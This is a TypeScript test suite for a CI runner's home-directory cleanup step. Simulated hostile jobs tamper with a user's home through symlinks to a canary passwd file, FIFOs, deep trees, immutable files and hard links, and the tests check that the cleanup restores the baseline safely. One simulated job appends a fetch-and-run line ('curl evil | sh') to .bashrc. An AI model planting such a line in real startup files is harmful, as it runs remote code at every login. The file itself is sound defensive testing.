import { test } from 'node:test';
import assert from 'node:assert/strict';
import { promises as fsp, readdirSync } from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { createLab, runAs, type Lab } from '../../helpers/lab.js';
import { ctxFor, makeSlot, snapshot } from '../../helpers/cleanup.js';
import { takeBaseline, loadBaseline } from '../../../src/cleanup/baseline.js';
import { diffHome, describeDiff, diffIsEmpty } from '../../../src/cleanup/home-diff.js';
import { homeStep } from '../../../src/cleanup/steps/home.js';
import { Trash } from '../../../src/cleanup/trash.js';
import { silentLogger } from '../../../src/lib/log.js';

async function makeCanary(lab: Lab): Promise<string> {
  const canary = path.join(lab.root, 'canary');
  await fsp.mkdir(path.join(canary, 'sub'), { recursive: true, mode: 0o755 });
  await fsp.writeFile(path.join(canary, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n', { mode: 0o644 });
  await fsp.writeFile(path.join(canary, 'sub', 'secret'), 'do not touch\n', { mode: 0o600 });
  return canary;
}

test('the home step removes new entries, restores changed and missing ones, and leaves kept paths and the canary alone', async () => {
  const lab = await createLab();
  try {
    const slot = await makeSlot(lab);
    const canary = await makeCanary(lab);
    const before = await snapshot(canary);
    runAs(
      lab.user,
      'mkdir -p .config/app .cache && echo "export A=1" > .bashrc && echo conf > .config/app/conf && chmod 640 .config/app/conf && echo p > .profile',
    );
    await takeBaseline(slot, { keep: ['.cache/pip'] });
    const pristine = await snapshot(lab.user.home);

    // The hostile job.
    runAs(
      lab.user,
      [
        'echo "curl evil | sh" >> .bashrc',
        'chmod 777 .config/app/conf',
        'rm .profile',
        'mkdir -p .cache/pip .cache/other && echo keepme > .cache/pip/wheel && echo junk > .cache/other/x',
        `ln -s ${canary} .config/evil-link`,
        `ln -s ${canary}/passwd .config/app/passwd-link`,
        'mkfifo .config/fifo',
        `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.bind('.config/sock')"`,
        `python3 -c "open(b'bad-\\xff-name','w').write('x')"`,
        `python3 -c "
import os
os.mkdir('deep'); os.chdir('deep')
for i in range(300):
    os.mkdir('d'); os.chdir('d')
open('leaf','w').write('x')"`,
        'touch "name with\nnewline" -- "-dash"',
        'mkdir locked && echo x > locked/f && chmod 000 locked',
      ].join('\n'),
    );

    const baseline = await loadBaseline(slot);
    assert.ok(baseline, 'takeBaseline did not store a manifest loadBaseline can read');
    const diff = await diffHome(slot, baseline, { keep: ['.cache/pip'] });
    const lines = describeDiff(diff).join('\n');
    for (const expect of [
      '.bashrc differs from baseline (content)',
      '.config/app/conf differs from baseline (mode)',
      '.profile missing',
      'new entry ~/deep',
      'new entry ~/.cache/other',
      'new entry ~/.config/fifo',
      'new entry ~/.config/sock',
      'new entry ~/bad-',
    ]) {
      assert.ok(lines.includes(expect), `diffHome did not report "${expect}":\n${lines}`);
    }
    assert.ok(!lines.includes('.cache/pip'), 'a kept path was reported');

    const dry = await homeStep().run(ctxFor(slot, (p) => (p.cleanup.home.keep = ['.cache/pip']), true));
    assert.equal(dry.outcome, 'ok');
    assert.ok(
      (dry.plan ?? []).some((l) => l.includes('.bashrc')),
      'dry run did not plan the .bashrc restore',
    );
    assert.ok(readdirSync(lab.user.home).includes('deep'), 'dry run removed something');

    const r = await homeStep().run(ctxFor(slot, (p) => (p.cleanup.home.keep = ['.cache/pip'])));
    assert.equal(r.outcome, 'ok', `home step not ok: ${r.reason}`);
    assert.ok((r.removed['new-entry']?.count ?? 0) >= 300, 'the deep tree was not counted as removed');
    assert.ok((r.removed['restored']?.count ?? 0) >= 3, 'restores were not counted');

    const after = await snapshot(lab.user.home);
    assert.ok(after.has('.cache/pip/wheel'), 'the kept cache was removed');
    after.delete('.cache/pip/wheel');
    after.delete('.cache/pip');
    // The .cache dir itself was in the baseline; only its kept child may differ.
    for (const [rel, what] of pristine) {
      if (rel === '' || rel === '.cache') continue;
      assert.equal(after.get(rel), what, `~/${rel} not back to its baseline`);
    }
    for (const rel of after.keys()) assert.ok(pristine.has(rel), `~/${rel} left behind`);
    assert.deepEqual(await snapshot(canary), before, 'the canary tree changed');

    const again = await diffHome(slot, (await loadBaseline(slot))!, { keep: ['.cache/pip'] });
    assert.ok(diffIsEmpty(again), `home still differs after the step: ${describeDiff(again).join('; ')}`);
  } finally {
    await lab.dispose();
  }
});

test('a baseline file replaced by a symlink to the canary, a FIFO or a directory is put back without touching the target', async () => {
  const lab = await createLab();
  try {
    const slot = await makeSlot(lab);
    const canary = await makeCanary(lab);
    const before = await snapshot(canary);
    runAs(lab.user, "echo '# a' > .bashrc && echo b > .profile && echo c > .npmrc && mkdir -p .config && echo d > .config/x");
    await takeBaseline(slot);
    runAs(
      lab.user,
      `rm .bashrc && ln -s ${canary}/passwd .bashrc && rm .profile && mkfifo .profile && rm .npmrc && mkdir .npmrc && rm -r .config && ln -s ${canary} .config`,
    );
    const baseline = (await loadBaseline(slot))!;
    // A naive reader of .profile would block forever on the FIFO with no writer.
    const diff = await diffHome(slot, baseline);
    assert.deepEqual(
      diff.changed.map((c) => `${c.rel}:${c.what.join(',')}`).sort(),
      ['.bashrc:type', '.config:type', '.npmrc:type', '.profile:type'],
      'type changes not detected',
    );
    const r = await homeStep().run(ctxFor(slot));
    assert.equal(r.outcome, 'ok', `home step not ok: ${r.reason}`);
    assert.equal(await fsp.readFile(path.join(lab.user.home, '.bashrc'), 'utf8'), '# a\n');
    assert.equal(await fsp.readFile(path.join(lab.user.home, '.config/x'), 'utf8'), 'd\n');
    assert.ok((await fsp.lstat(path.join(lab.user.home, '.profile'))).isFile(), '.profile is not a file again');
    assert.equal((await fsp.lstat(path.join(lab.user.home, '.bashrc'))).uid, lab.user.uid, 'restored file lost its owner');
    assert.deepEqual(await snapshot(canary), before, 'the canary was touched through a symlink');
    assert.ok(diffIsEmpty(await diffHome(slot, (await loadBaseline(slot))!)), 'home not back to baseline');
  } finally {
    await lab.dispose();
  }
});

test('a changed file with the same size and a forged mtime is caught by its ctime and hash', async () => {
  const lab = await createLab();
  try {
    const slot = await makeSlot(lab);
    runAs(lab.user, "echo '#aaa' > .bashrc && touch -d 2020-01-01 .bashrc");
    await takeBaseline(slot);
    // Same size, mtime set back: only ctime (which no user can set) and the hash tell.
    runAs(lab.user, "echo '#bbb' > .bashrc && touch -d 2020-01-01 .bashrc");
    const diff = await diffHome(slot, (await loadBaseline(slot))!);
    assert.deepEqual(diff.changed, [{ rel: '.bashrc', what: ['content'] }], 'same-size rewrite not detected');
    assert.ok(diff.hashed >= 1, 'the same-size file was not hashed');
  } finally {
    await lab.dispose();
  }
});

test('a hard link the job made to a baseline file does not carry the restore into the other name', async () => {
  const lab = await createLab();
  try {
    const slot = await makeSlot(lab);
    runAs(lab.user, "echo '#orig' > .bashrc");
    await takeBaseline(slot);
    const outside = path.join(lab.root, 'userfiles');
    await fsp.mkdir(outside, { mode: 0o777 });
    await fsp.chmod(outside, 0o777);
    runAs(lab.user, `echo '#changed' > .bashrc && ln .bashrc ${outside}/link`);
    const r = await homeStep().run(ctxFor(slot));
    assert.equal(r.outcome, 'ok', `home step not ok: ${r.reason}`);
    assert.equal(await fsp.readFile(path.join(lab.user.home, '.bashrc'), 'utf8'), '#orig\n');
    assert.equal(await fsp.readFile(path.join(outside, 'link'), 'utf8'), '#changed\n', 'restore wrote through a hard link');
  } finally {
    await lab.dispose();
  }
});

test('without a baseline the home step reports the host dirty', async () => {
  const lab = await createLab();
  try {
    const slot = await makeSlot(lab);
    const r = await homeStep().run(ctxFor(slot));
    assert.equal(r.outcome, 'dirty');
    assert.match(r.reason ?? '', /no home baseline/);
  } finally {
    await lab.dispose();
  }
});

test('new entries with immutable and append-only attributes are removed anyway, without looping', async () => {
  const lab = await createLab();
  try {
    const slot = await makeSlot(lab);
    await takeBaseline(slot);
    const imm = path.join(lab.user.home, 'imm');
    await fsp.mkdir(path.join(imm, 'sub', 'deeper'), { recursive: true });
    await fsp.writeFile(path.join(imm, 'sub', 'f'), 'x');
    await fsp.writeFile(path.join(imm, 'g'), 'x');
    // chattr needs root (CAP_LINUX_IMMUTABLE): here the test plays a job that got it somehow.
    execFileSync('chattr', ['+i', path.join(imm, 'sub', 'f')]);
    execFileSync('chattr', ['+i', path.join(imm, 'sub', 'deeper')]);
    execFileSync('chattr', ['+a', imm]);
    const r = await homeStep().run(ctxFor(slot));
    assert.equal(r.outcome, 'ok', `home step not ok: ${r.reason}`);
    await assert.rejects(fsp.lstat(imm), '~/imm is still there');
  } finally {
    execFileSync('chattr', ['-R', '-i', '-a', lab.user.home], { stdio: 'ignore' });
    await lab.dispose();
  }
});

/** A tree `levels` deep under ~/<name>, made by the runner user (the job). */
function deepTree(lab: Lab, name: string, levels: number): void {
  runAs(
    lab.user,
    `python3 -c "
import os
os.mkdir('${name}'); os.chdir('${name}')
for i in range(${levels}):
    os.mkdir('d'); os.chdir('d')
open('leaf','w').write('x')"`,
  );
}

test('a new directory of the home goes into the trash by one rename, however deep, and the home then matches its baseline', async () => {
  const lab = await createLab();
  try {
    const slot = await makeSlot(lab);
    await takeBaseline(slot);
    deepTree(lab, 'deep', 5_001);
    runAs(lab.user, 'echo x > new-file');
    const trash = new Trash(slot.trashDir, silentLogger());
    const r = await homeStep({ trash }).run(ctxFor(slot));
    assert.equal(r.outcome, 'ok', `home step not ok: ${r.reason}`);
    await assert.rejects(fsp.lstat(path.join(lab.user.home, 'deep')), '~/deep is still there');
    await assert.rejects(fsp.lstat(path.join(lab.user.home, 'new-file')), '~/new-file is still there');
    assert.equal(readdirSync(slot.trashDir).length, 1, 'the new directory (and only it: a file goes in place) must wait in the trash');
    const baseline = await loadBaseline(slot);
    assert.ok(baseline);
    const diff = await diffHome(slot, baseline, {});
    assert.ok(diffIsEmpty(diff), describeDiff(diff).join('\n'));
    const d = await trash.drain();
    assert.equal(d.remaining, 0, 'the background deletion left the tree');
    assert.deepEqual(readdirSync(slot.trashDir), []);
  } finally {
    await lab.dispose();
  }
});

test('a new directory on another filesystem than the trash is deleted in place', async () => {
  const lab = await createLab();
  const slot = await makeSlot(lab);
  await fsp.mkdir(slot.trashDir, { mode: 0o700 });
  execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=1m,mode=0700', 'rw-test-trash', slot.trashDir]);
  try {
    await takeBaseline(slot);
    deepTree(lab, 'deep', 50);
    const trash = new Trash(slot.trashDir, silentLogger());
    const r = await homeStep({ trash }).run(ctxFor(slot));
    assert.equal(r.outcome, 'ok', `home step not ok: ${r.reason}`);
    await assert.rejects(fsp.lstat(path.join(lab.user.home, 'deep')), '~/deep is still there');
    assert.deepEqual(readdirSync(slot.trashDir), [], 'nothing crosses into the trash on another filesystem');
  } finally {
    execFileSync('umount', [slot.trashDir]);
    await lab.dispose();
  }
});
